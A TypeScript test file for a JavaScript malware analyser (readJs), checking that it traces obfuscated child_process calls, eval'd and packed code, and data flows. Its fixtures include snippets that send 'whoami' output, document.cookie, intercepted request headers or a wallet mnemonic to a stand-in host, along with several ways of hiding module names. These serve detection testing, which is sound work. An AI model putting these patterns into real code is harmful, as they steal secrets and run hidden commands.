import fc from 'fast-check'
import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { readJs } from '../../../src/analyze/js/index.ts'

const targets = (text: string) => readJs(text, 'a.js').references.map(({ kind, target }) => `${kind} ${target}`)
const commands = (text: string) => readJs(text, 'a.js').commands.map(({ words }) => words)

test('what a file loads, with constants folded', () => {
  const text = `
    const path = require('path'), parts = ['./l', 'ib'], { join } = path
    require(parts.join('')); require(\`./\${'a'}-\${1 + 1}\`); require(join(__dirname, '..', 'data.json'))
    const load = require; load('./aliased'); import('./later.mjs'); new Worker('./worker.js')
    require('child_process').fork(path.resolve(__dirname, 'child.js')); require('./build/x.node')`
  const found = targets(text)
  for (const one of [
    'require ./lib',
    'require ./a-2',
    'require ./aliased',
    'import ./later.mjs',
    'worker ./worker.js',
  ]) {
    assert.ok(found.includes(one), `${one} in ${found.join(', ')}`)
  }
  assert.ok(found.some((one) => /^fork \.\/child\.js$/u.test(one)))
  assert.ok(found.includes('native ./build/x.node'))
  assert.ok(found.some((one) => /^require .*\.\.\/data\.json$/u.test(one)))
})

test('imports and exports are references, and a computed one is told as such', () => {
  assert.equal(targets(`import a from './a.js'\nexport { b } from './b.js'\nexport * from './c.js'`), [
    'import ./a.js',
    'import ./b.js',
    'import ./c.js',
  ])
  assert.equal(targets('exports.load = (name) => require(name)'), ['require undefined'])
})

test('what functions inherit runs no text, and its constructor does', () => {
  const kinds = (text: string) => readJs(text, 'a.js').signals.map(({ kind }) => kind)
  assert.equal(kinds('Object.setPrototypeOf(fiber, Function.prototype)'), [])
  assert.ok(kinds(`Function.prototype.constructor(text)()`).includes('code/dynamic'))
  assert.ok(kinds(`(function () {}).constructor(text)()`).includes('code/dynamic'))
})

test('a parameter that its own callers hand round is followed to where it ends', () => {
  const text = `
    const { exec } = require('child_process')
    function first(line) { return second(line) }
    function second(line) { return line === '' ? first('ls') : third(line) }
    function third(line) { exec(line) }
    first('whoami')`
  const lines = commands(text).flat()
  assert.ok(lines.includes('ls') && lines.includes('whoami'), lines.join(', '))
})

test('a builtin is found under whatever name it is called', () => {
  const ways = [
    `require('child_process').exec('true')`,
    `const { exec: run } = require('node:child_process'); run('true')`,
    `import { exec } from 'child_process'; exec('true')`,
    `const cp = await import('child_process'); cp.exec('true')`,
    `process.mainModule.require('child_process').exec('true')`,
    `module.constructor._load('child_process').exec('true')`,
    `globalThis['req' + 'uire']('child_' + 'process')['ex' + 'ec']('true')`,
    `require('util').promisify(require('child_process').exec)('true')`,
    `const { createRequire } = require('module'); createRequire(__filename)('child_process').exec('true')`,
    `eval('require')('child_process').exec('true')`,
    `Function('return process')().mainModule.require('child_process').exec('true')`,
    `process.getBuiltinModule('child_process').exec('true')`,
    `const run = (f, ...rest) => f(...rest); run(require('child_process').exec, 'true')`,
    `require('child_process').exec.call(null, 'true')`,
    `var o = {}; o.run = require('child_process').exec; o.run('true')`,
    `class A { constructor() { this.cp = require('child_process') } go() { this.cp.exec('true') } } new A().go()`,
    `require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).exec('true')`,
    `require(String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115)).exec('true')`,
    `require('ssecorp_dlihc'.split('').reverse().join('')).exec('true')`,
  ]
  for (const way of ways) assert.equal(commands(way)[0], ['true'], way)
})

test('programs come with their arguments, and what is computed stays open', () => {
  assert.equal(commands(`require('child_process').spawn('node', ['-e', code, './x.js'])`), [
    ['node', '-e', undefined, './x.js'],
  ])
})

test('code in code is read, at the line where it is run', () => {
  const { commands: found, signals } = readJs(`\n\neval("require('child_process').exec('true')")`, 'a.js')
  assert.equal(
    found.map(({ words, line }) => [words, line]),
    [[['true'], 3]],
  )
  assert.ok(signals.every(({ line }) => line === 3))
})

test('a packed text is unpacked', () => {
  const packed = `eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c]);return p}('0(\\'1\\').2(\\'3\\')',4,4,'require|child_process|exec|true'.split('|'),0,{}))`
  assert.equal(commands(packed), [['true']])
})

test('an exported function acts when it is called, a callback and what it calls as soon as the file is loaded', () => {
  const runs = (text: string) =>
    readJs(text, 'a.js').signals.find(({ kind }) => kind === 'network/request')?.args['runs']
  assert.is(runs(`exports.a = () => fetch('https://a.invalid')`), 'call')
  assert.is(runs(`module.exports = function () { fetch('https://a.invalid') }`), 'call')
  assert.is(runs(`function a() { fetch('https://a.invalid') } setTimeout(a, 9)`), 'load')
  assert.is(runs(`const a = () => fetch('https://a.invalid'); const b = () => a(); b()`), 'load')
})

test('texts that are no JavaScript, too long or too deep are a problem, and take no time', () => {
  assert.match(readJs(`require${'['.repeat(100_000)}`, 'a.js').problem ?? '', /nested|readable|valid/u)
  assert.match(readJs(`require;${' '.repeat(5_000_001)}`, 'a.js').problem ?? '', /longer/u)
  assert.match(readJs(`require${'\ufffd'.repeat(5_000)}`, 'a.js').problem ?? '', /not text/u)
  assert.is(readJs(`require('a')${'+1'.repeat(1_000)}`, 'a.js').problem, undefined)
})

test('a syntax error hides nothing from the tolerant reading', () => {
  assert.equal(commands(`var package = 1 2;\nrequire('child_process').exec('true')`), [['true']])
})

const pieces = [
  'var a = ', 'require', '(', ')', "'fs'", '{', '}', '[', ']', ';', '=>', 'eval', '.x', '...', '`${', '}`', 'async ', 'class A {', 'new ', 'function f(a=1){',
  'this', ',', '+', 'a', 'b.c', "Buffer.from('aGVsbG8=', 'base64')", '.join(', 'catch(e)', 'try{', 'import(', '=', 'for (const x of ', 'f(f)', 'return ', '\\u0061',
] // biome-ignore format: a list reads better in rows

test('whatever the text, it is read without throwing, and twice the same', () => {
  const texts = fc.oneof(
    fc.string({ maxLength: 200 }),
    fc.array(fc.constantFrom(...pieces), { maxLength: 40 }).map((all) => all.join('')),
  )
  fc.assert(
    fc.property(texts, (text) => {
      assert.equal(readJs(text, 'a.js'), readJs(text, 'a.js'))
    }),
    { numRuns: 400 },
  )
})

test('functions that call each other without end come to an end', () => {
  const text = `const a = (x) => b(x) + b(x), b = (x) => a(x) + a(x); require('child_process').exec(a('x')); let c = d, d = c; fetch(c + d)`
  assert.is(readJs(text, 'a.js').problem, undefined)
})

const acts = (text: string, kind: string) => readJs(text, 'a.js').signals.filter((one) => one.kind === kind)

test('modules in the dress of other modules are the same modules', () => {
  const helper = `var z = (m, n) => { var t = Object.create(null); for (let k of Object.keys(m)) Object.defineProperty(t, k, { get: () => m[k] }); return n || !m.__esModule ? Object.defineProperty(t, 'default', { value: m }) : t }`
  assert.is(acts(`${helper}; var h = z(require('https')); h.get('https://a.invalid/x')`, 'network/request').length, 1)
  assert.is(
    acts(`var z = (m) => ({ a: 1 }); var h = z(require('https')); h.get('https://a.invalid/x')`, 'network/request')
      .length,
    0,
  )
})

test('who the machine and its user are, told by a program', () => {
  const from = (command: string) =>
    acts(`require('child_process').exec('${command}', (e, out) => fetch('https://a.invalid/' + out))`, 'flow/send')[0]
      ?.args['from']
  assert.equal(from('whoami && id'), ['output', 'user'])
  assert.equal(from('git --version'), ['output'])
})

test('a function that asks for the kind of a module and gives another hides nothing', () => {
  const text = `const f = (m, c) => { if (m.__esModule) return m; return c }; f(require('path'), require('child_process')).exec('id')`
  assert.is(acts(text, 'process/shell').length, 1)
})

test('a module below default, as rollup dresses it', () => {
  const helper =
    'function n(e) { var o = Object.create(null); Object.keys(e).forEach((k) => { o[k] = e[k] }); o.default = e; return Object.freeze(o) }'
  assert.is(acts(`${helper} var h = n(require('https')); h.get('https://a.invalid/x')`, 'network/request').length, 1)
})

test('a key is told by what is done with it, and a signature tells nothing of it', () => {
  const key = (text: string) => acts(text, 'flow/send').flatMap(({ args }) => args['names'])
  const send = "fetch('https://a.invalid', { method: 'POST', body: "
  assert.equal(key(`exports.f = (m) => { ${send} m }); return bip39.mnemonicToSeed(m) }`), ['key:m'])
  assert.equal(
    key(`exports.f = (m, b) => { ${send} require('crypto').createHmac('sha256', m).update(b).digest() }) }`),
    [],
  )
  assert.equal(key(`exports.f = (m) => { ${send} m }); return other(m) }`), [])
})

test('requests of others are seen by who asks to see each, and what a chain says came from outside', () => {
  const taken =
    "require('axios').interceptors.request.use((c) => { fetch('https://a.invalid/', { body: c.headers }); return c })"
  assert.equal(acts(taken, 'flow/send')[0]?.args['from'], ['intercepted'])
  const contract =
    "const { ethers } = require('ethers'); const c = new ethers.Contract('0x0', []); c.word().then((w) => require('child_process').exec(w))"
  assert.equal(acts(contract, 'flow/run')[0]?.args['from'], ['network'])
})

test('a proxy that is written into the code, and one that is asked for', () => {
  assert.is(acts("process.env.HTTPS_PROXY = 'http://203.0.113.1:8'", 'tamper/security').length, 1)
  assert.is(acts('process.env.HTTPS_PROXY = process.env.https_proxy', 'tamper/security').length, 0)
  assert.is(acts("process.env.HTTPS_PROXY = 'http://127.0.0.1:8'", 'tamper/security').length, 0)
})

test('a payment to an address in the code, and one to whom the caller says', () => {
  const pay = (to: string) => `exports.f = (w, to) => w.signTransaction({ to: ${to}, value: 1 })`
  assert.is(acts(pay("'0x1234567890aBcdEF1234567890aBcDeF12345678'"), 'wallet/pay').length, 0)
  const own = (to: string) => `const w = require('web3'); new w().eth.accounts.signTransaction({ to: ${to}, value: 1 })`
  assert.is(acts(own("'0x1234567890aBcdEF1234567890aBcDeF12345678'"), 'wallet/pay').length, 1)
  assert.is(acts(own('process.argv[2]'), 'wallet/pay').length, 0)
})

test('a page whose store is posted, whether the request is opened or told', () => {
  const sent = (text: string) => acts(text, 'flow/send')[0]?.args['host']
  assert.is(
    sent("const x = new XMLHttpRequest(); x.open('POST', 'https://a.invalid/'); x.send(document.cookie)"),
    'a.invalid',
  )
  assert.is(
    sent("new RTCPeerConnection({ iceServers: [{ urls: 'turn:a.invalid:1', username: document.cookie }] })"),
    'a.invalid',
  )
  assert.is(sent('fetch(url, { body: document.cookie })'), '')
})

test('command lines in templates', () => {
  assert.equal(commands("import { $ } from 'zx'; await $`curl -s https://a.invalid`"), [['curl -s https://a.invalid']])
  assert.equal(commands("import { html } from 'lit'; html`curl -s https://a.invalid`"), [])
})

test('a text that begins empty is not known', () => {
  const told = (add: string) =>
    acts(
      `require('https').get('https://a.invalid', (r) => { let d = ''; r.on('data', (c) => { ${add} }); require('child_process').exec(d) })`,
      'flow/run',
    )[0]?.args['program']
  assert.is(told('d += c'), 'told')
})

test.run()
